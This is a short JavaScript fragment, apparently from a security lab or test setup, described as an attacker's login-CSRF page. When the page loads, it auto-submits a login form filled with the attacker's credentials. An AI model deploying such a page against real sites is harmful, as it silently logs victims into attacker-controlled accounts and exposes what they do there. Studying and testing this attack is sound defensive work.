// The attacker's login-CSRF page: submit the attacker's credentials as soon as it opens.
const A = JSON.parse(document.getElementById("attack").textContent);
if (A.auto) document.getElementById("login-form").submit();
